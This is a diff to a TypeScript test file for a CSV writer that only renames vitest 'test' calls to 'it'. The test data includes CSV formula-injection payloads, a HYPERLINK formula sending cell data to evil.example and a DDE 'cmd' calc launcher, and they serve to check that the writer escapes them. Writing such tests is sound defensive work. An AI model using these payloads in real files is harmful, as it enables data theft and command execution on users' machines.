@@ -1,5 +1,5 @@
 import * as fc from 'fast-check'
-import { describe, expect, test } from 'vitest'
+import { describe, expect, it } from 'vitest'
 import { csvText } from './csv-text.ts'
 
 /** Reads CSV by the letter of RFC 4180, and by nothing that writes it. */
@@ -38,7 +38,7 @@ const readCsv = (text: string): string[][] => {
 const RUNS = /^[\s\p{C}]*[=+\-@]/u
 
 describe('CSV', () => {
-  test('is written by RFC 4180', () => {
+  it('is written by RFC 4180', () => {
     expect(
       csvText([
         ['Name', 'Address'],
@@ -49,7 +49,7 @@ describe('CSV', () => {
     expect(csvText([['']])).toBe('\uFEFF""\r\n')
   })
 
-  test.each([
+  it.each([
     '=HYPERLINK("https://evil.example/?"&A1,"Open")',
     "=cmd|' /C calc'!A0",
     '+1',
@@ -64,7 +64,7 @@ describe('CSV', () => {
     expect(readCsv(csvText([['x', formula]]))).toEqual([['x', `'${formula}`]])
   })
 
-  test('loses nothing, runs nothing and keeps every row as long as it was', () => {
+  it('loses nothing, runs nothing and keeps every row as long as it was', () => {
     const field = fc.oneof(fc.string({ unit: 'grapheme' }), fc.stringMatching(/^[=+\-@,;"'\r\n\t a]{0,6}$/))
     const table = fc
       .integer({ min: 1, max: 4 })
